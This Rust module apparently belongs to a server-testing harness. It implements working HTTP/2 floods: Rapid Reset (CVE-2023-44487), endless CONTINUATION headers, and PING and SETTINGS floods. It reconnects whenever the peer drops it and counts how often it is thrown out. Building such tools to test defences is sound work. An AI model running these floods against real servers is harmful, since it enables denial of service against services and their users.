//! Floods at full speed: frames written ahead of time and sent as fast as the peer takes them, on connections
//! that are replaced as soon as the peer ends them or says GOAWAY. What it sends back is read and dropped, so
//! that it cannot excuse itself with a full socket.

use std::io::{self, ErrorKind, Write};
use std::net::{Ipv4Addr, TcpStream};
use std::thread;
use std::time::{Duration, Instant};

use crate::bound;
use crate::frames::{self, Frames};

/// Bytes given to the kernel at once. More would keep the load's core from the other client, whose waiting
/// would then be the flooder's fault.
const WRITE: usize = 16 * 1024;

/// A pause when no connection takes or brings anything: the peer is at its limit.
const PAUSE: Duration = Duration::from_micros(20);

const HEAD: usize = 9;
const CANCEL: [u8; 4] = [0, 0, 0, 8];

#[derive(Clone, Copy, PartialEq)]
pub enum Kind {
    /// A request and RST_STREAM for it, over and over (CVE-2023-44487).
    Resets,
    /// A header block that never ends.
    Continuations,
    Pings,
    Settings,
}

impl Kind {
    pub fn named(name: &str) -> Option<Self> {
        Some(match name {
            "resets" => Self::Resets,
            "continuations" => Self::Continuations,
            "pings" => Self::Pings,
            "settings" => Self::Settings,
            _ => return None,
        })
    }

    /// What a connection begins with.
    fn opening(self) -> Vec<u8> {
        let mut out = frames::PREFACE.to_vec();
        frames::put_settings(&mut out, &[]);
        if self == Self::Continuations {
            frames::put(&mut out, frames::HEADERS, frames::END_STREAM, 1, &frames::get("/1k"));
        }
        out
    }

    /// What is then sent without end: two frames, repeated.
    fn pair(self) -> Vec<u8> {
        let mut out = Vec::new();
        if self == Self::Resets {
            let flags = frames::END_STREAM | frames::END_HEADERS;
            frames::put(&mut out, frames::HEADERS, flags, 1, &frames::get("/1k"));
            frames::put(&mut out, frames::RST_STREAM, 0, 1, &CANCEL);
            return out;
        }
        for _ in 0..2 {
            match self {
                Self::Continuations => {
                    frames::put(&mut out, frames::CONTINUATION, 0, 1, b"\x00\x01a\x01b")
                }
                Self::Pings => frames::put(&mut out, frames::PING, 0, 0, b"flooding"),
                Self::Resets | Self::Settings => frames::put_settings(&mut out, &[]),
            }
        }
        out
    }
}

#[derive(Default)]
struct Totals {
    connections: u64,
    /// Ended by the peer, GOAWAY included.
    thrown_out: u64,
    bytes: u64,
}

/// Flood for `seconds` over `connections` at a time, all from one address, then print what was sent.
pub fn run(
    port: u16,
    kind: Kind,
    connections: usize,
    seconds: f64,
    from: Ipv4Addr,
) -> io::Result<()> {
    let mut totals = Totals::default();
    let mut open: Vec<Option<Flooding>> = (0..connections).map(|_| None).collect();
    let began = Instant::now();
    while began.elapsed().as_secs_f64() < seconds {
        let mut moved = false;
        for slot in &mut open {
            let Some(flooding) = slot else {
                // A refused connection is a way to throw out, too.
                *slot = Flooding::connect(port, kind, from).ok();
                totals.connections += u64::from(slot.is_some());
                moved = true;
                continue;
            };
            match flooding.step() {
                Ok(0) => {}
                Ok(sent) => {
                    totals.bytes += sent as u64;
                    moved = true;
                }
                Err(ThrownOut) => {
                    totals.thrown_out += 1;
                    *slot = None;
                    moved = true;
                }
            }
        }
        if !moved {
            thread::sleep(PAUSE);
        }
    }
    println!(
        "{{\"frames\":{},\"connections\":{},\"thrown_out\":{},\"seconds\":{:.3}}}",
        totals.bytes * 2 / kind.pair().len() as u64,
        totals.connections,
        totals.thrown_out,
        began.elapsed().as_secs_f64(),
    );
    Ok(())
}

struct Flooding {
    stream: TcpStream,
    frames: Frames,
    kind: Kind,
    /// Pairs of frames; what is before `sent` has gone.
    chunk: Vec<u8>,
    sent: usize,
    next: u32,
}

/// The peer ended the connection.
struct ThrownOut;

impl Flooding {
    fn connect(port: u16, kind: Kind, from: Ipv4Addr) -> io::Result<Self> {
        let mut stream = bound::connect_from(from, port)?;
        stream.set_nodelay(true)?;
        stream.write_all(&kind.opening())?;
        stream.set_nonblocking(true)?;
        let pair = kind.pair();
        let chunk = pair.repeat(WRITE / pair.len());
        Ok(Self { stream, frames: Frames::new(64 * 1024), kind, sent: chunk.len(), chunk, next: 1 })
    }

    /// One write and one read, as far as either is possible; the bytes written.
    fn step(&mut self) -> Result<usize, ThrownOut> {
        if self.sent == self.chunk.len() {
            self.sent = 0;
            if self.kind == Kind::Resets {
                self.number();
            }
        }
        let wrote = possible(self.stream.write(&self.chunk[self.sent..]))?.unwrap_or(0);
        self.sent += wrote;
        if possible(self.frames.fill(&mut self.stream))? == Some(0) {
            return Err(ThrownOut);
        }
        while let Some(frame) = self.frames.next() {
            if frame.kind == frames::GOAWAY {
                return Err(ThrownOut);
            }
        }
        Ok(wrote)
    }

    /// Give the chunk's requests and resets streams that were not used yet.
    fn number(&mut self) {
        let pair = self.kind.pair().len();
        let reset = pair - HEAD - CANCEL.len();
        for frames in self.chunk.chunks_exact_mut(pair) {
            for head in [0, reset] {
                frames[head + 5..head + HEAD].copy_from_slice(&self.next.to_be_bytes());
            }
            self.next += 2;
        }
    }
}

/// None when the socket cannot now.
fn possible(done: io::Result<usize>) -> Result<Option<usize>, ThrownOut> {
    match done {
        Ok(count) => Ok(Some(count)),
        Err(error) if error.kind() == ErrorKind::WouldBlock => Ok(None),
        Err(_) => Err(ThrownOut),
    }
}
